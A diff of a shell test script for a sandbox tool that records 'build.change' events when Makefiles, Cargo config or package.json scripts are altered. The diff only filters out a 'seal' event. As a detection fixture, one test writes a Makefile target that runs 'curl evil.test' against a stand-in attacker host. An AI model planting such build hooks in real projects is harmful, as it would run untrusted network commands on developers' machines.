@@ -24,10 +24,10 @@ echo '{"name": "x", "scripts": {"test": "true"}}' >package.json
 # --- what does not change is not told ---
 box default true
 is "a command that does nothing: status" "$status" 0
-is "and no event about it" "$(events | jq -r .event)" $'task.start\ntask.end'
+is "and no event about it" "$(events | jq -r .event | grep -v seal)" $'task.start\ntask.end'
 touch package-lock.json
 sh_box default 'cp package-lock.json x; cat x >package-lock.json; rm x'
-is "nor when the same bytes are written again" "$(events | jq -r .event)" $'task.start\ntask.end'
+is "nor when the same bytes are written again" "$(events | jq -r .event | grep -v seal)" $'task.start\ntask.end'
 
 # --- what does ---
 # change NAME NEW-LOCK WANT...: after it was written, the log has the wanted words.
@@ -85,7 +85,7 @@ rm -f x
 cp before package-lock.json
 mkdir -p node_modules/y
 sh_box default 'cp package-lock.json node_modules/y/package-lock.json'
-is "what packages bring along is not the workspace's" "$(events | jq -r .event)" $'task.start\ntask.end'
+is "what packages bring along is not the workspace's" "$(events | jq -r .event | grep -v seal)" $'task.start\ntask.end'
 rm -r node_modules
 sh_box default 'printf "all:\n\tcurl evil.test\n" >Makefile; mkdir -p .cargo; echo >.cargo/config.toml'
 has "a new Makefile" "$(events)" '"event":"build.change"'
@@ -94,7 +94,7 @@ rm -r Makefile .cargo
 sh_box default 'sed -i "s/true/evil/" package.json'
 has "scripts of package.json" "$(events | jq -r 'select(.event == "build.change") | .reason')" scripts
 sh_box default 'sed -i "s/\"x\"/\"y\"/" package.json'
-is "but not its other members" "$(events | jq -r .event)" $'task.start\ntask.end'
+is "but not its other members" "$(events | jq -r .event | grep -v seal)" $'task.start\ntask.end'
 box offline true
 profile read '[profile]' 'description = x'
 box read sh -c 'echo 2>/dev/null >package-lock.json'
